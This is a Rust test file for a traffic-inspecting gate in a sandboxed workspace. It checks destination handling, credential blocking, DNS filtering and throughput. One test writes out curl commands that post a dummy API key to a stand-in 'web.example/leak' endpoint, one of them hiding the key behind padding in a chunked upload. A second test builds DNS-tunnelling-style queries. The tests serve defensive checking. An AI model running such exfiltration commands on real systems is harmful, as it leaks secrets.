//! Traffic through gate: where it goes, whether it is inspected, and how fast.

use std::time::Duration;

use polis_stack_proof::Result;
use polis_stack_proof::bench::Bench;
use polis_stack_proof::internet::{NAME_SERVER, OTHER, WEB};

use crate::ensure;
use crate::probe::{ask, python, shell};

const LOAD: &str = include_str!("load.py");

/// A connection reaches the address it was made to, whatever the request says.
pub(crate) fn gate_sees_the_original_destination(bench: &mut Bench) -> Result<()> {
    for address in [WEB, OTHER] {
        let path = format!("/original/{address}");
        let said = shell(
            bench,
            &format!("curl -sS -m 20 --resolve web.example:80:{address} http://web.example{path}"),
        )?;
        let wanted = format!("\"address\": \"{address}\"");
        ensure(said.contains(&wanted), || {
            format!("a connection to {address} was answered by: {said}")
        })?;
        let seen = bench.internet.seen_with(&path)?;
        let from_machine = seen
            .iter()
            .all(|entry| entry["from"] == bench.internet.machine);
        ensure(seen.len() == 1 && from_machine, || {
            format!("seen outside: {seen:?}")
        })?;
    }
    // By name, and inside TLS with a certificate that the workspace trusts.
    for url in ["http://web.example/by-name", "https://web.example/by-name"] {
        let said = shell(bench, &format!("curl -sS -m 20 {url}"))?;
        ensure(said.contains(WEB), || format!("{url}: {said}"))?;
    }
    Ok(())
}

/// A credential in the body of a request does not get out: in plain HTTP, in TLS, or chunked behind other data.
pub(crate) fn credentials_are_refused(bench: &mut Bench) -> Result<()> {
    let secret = "sk-ant-api03-STACKPROOFabcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789abcdefghijkl-AA";
    let ways = [
        (
            "plain",
            format!(
                "curl -sS -m 20 -o /dev/null -w '%{{http_code}}' -d 'key={secret}' http://web.example/leak"
            ),
        ),
        (
            "inside TLS",
            format!(
                "curl -sS -m 20 -o /dev/null -w '%{{http_code}}' -d 'key={secret}' https://web.example/leak"
            ),
        ),
        (
            "chunked",
            format!(
                "(head -c 20000 /dev/zero | tr '\\0' x; printf '%s' '{secret}') | curl -sS -m 20 -o /dev/null -w '%{{http_code}}' \
                 -H 'Transfer-Encoding: chunked' -T - http://web.example/leak"
            ),
        ),
    ];
    for (way, command) in ways {
        let ran = bench.inside("workspace", &["bash", "-c", &command]).ran()?;
        ensure(ran.stdout.trim() == "403", || {
            format!("{way}: expected 403, found {ran:?}")
        })?;
        let seen = bench.internet.seen_with("STACKPROOF")?;
        ensure(seen.is_empty(), || {
            format!("{way}: it arrived outside: {seen:?}")
        })?;
    }
    let harmless = shell(
        bench,
        "curl -sS -m 20 -o /dev/null -w '%{http_code}' -d 'key=none' http://web.example/harmless",
    )?;
    ensure(harmless == "200", || {
        format!("a harmless body was answered with {harmless}")
    })
}

/// Names and records that could carry data out are answered by resolver itself; an ordinary name still resolves.
pub(crate) fn names_that_could_carry_data_are_not_forwarded(bench: &mut Bench) -> Result<()> {
    // resolver on the workspace's network, and any other server, whose queries gate sends to resolver.
    const SERVERS: [&str; 2] = ["10.10.1.2", NAME_SERVER];
    let long_label = format!("{}.web.example", "a".repeat(51));
    let long_name = format!("{}web.example", "aaaaaaaaa.".repeat(15));
    let expected = [
        ("web.example 1".to_owned(), format!("answers {WEB}")),
        ("web.example 16".to_owned(), "answers code 0".to_owned()),
        ("web.example 10".to_owned(), "answers code 0".to_owned()),
        (format!("{long_label} 1"), "answers code 3".to_owned()),
        (format!("{long_name} 1"), "answers code 3".to_owned()),
    ];
    for server in SERVERS {
        let questions = expected
            .each_ref()
            .map(|(question, _)| format!("dns {server} {question}"));
        let answers = ask(bench, &questions)?;
        for (question, (_, wanted)) in questions.iter().zip(&expected) {
            ensure(answers.get(question) == Some(wanted), || {
                format!(
                    "`{question}`: {:?}, expected {wanted:?}",
                    answers.get(question)
                )
            })?;
        }
    }
    Ok(())
}

/// One run of `load.py`: requests per second, the 99th percentile in milliseconds, and how many requests were lost.
#[derive(Debug)]
struct Load {
    rate: f64,
    p99: f64,
    lost: u32,
}

impl Load {
    fn read(said: &str) -> Result<Self> {
        let numbers: Vec<f64> = said
            .split_whitespace()
            .filter_map(|word| word.parse().ok())
            .collect();
        let [count, seconds, p99, lost] = numbers[..] else {
            return Err(format!("no measurement: {said}"));
        };
        #[expect(
            clippy::cast_possible_truncation,
            clippy::cast_sign_loss,
            reason = "a small count"
        )]
        let lost = lost as u32;
        Ok(Self {
            rate: count / seconds,
            p99,
            lost,
        })
    }
}

/// Every one of many concurrent requests is answered.
pub(crate) fn no_request_is_lost(bench: &mut Bench) -> Result<()> {
    for round in 1..=3 {
        let said = python(bench, LOAD, &[WEB, "/quiet", "128", "1"])?;
        let load = Load::read(&said)?;
        ensure(load.lost == 0, || {
            format!(
                "round {round}: {} of 128 requests were lost, {load:?}",
                load.lost
            )
        })?;
    }
    Ok(())
}

/// Prints the cost of inspection: the same requests through gate and, from gate's network namespace, directly.
pub(crate) fn speed(bench: &mut Bench) -> Result<()> {
    let words = [WEB, "/quiet", "16", "25"];
    let through = Load::read(&python(bench, LOAD, &words)?)?;
    let load = [&["python3", "-"][..], &words].concat();
    let said = bench
        .in_network_of("gate", &load)?
        .input(LOAD.as_bytes())
        .output()?;
    let past = Load::read(&said)?;
    println!(
        "          requests/s: {:.0} through gate, {:.0} directly, ratio {:.2}; p99 {:.0} ms and {:.0} ms; lost {} and {}",
        through.rate,
        past.rate,
        past.rate / through.rate,
        through.p99,
        past.p99,
        through.lost,
        past.lost
    );
    bench.times.push((
        "400 requests through gate".to_owned(),
        Duration::from_secs_f64(400.0 / through.rate),
    ));
    bench.times.push((
        "400 requests directly".to_owned(),
        Duration::from_secs_f64(400.0 / past.rate),
    ));
    ensure(through.lost == 0 && past.lost == 0, || {
        format!("lost requests: {through:?}, {past:?}")
    })
}
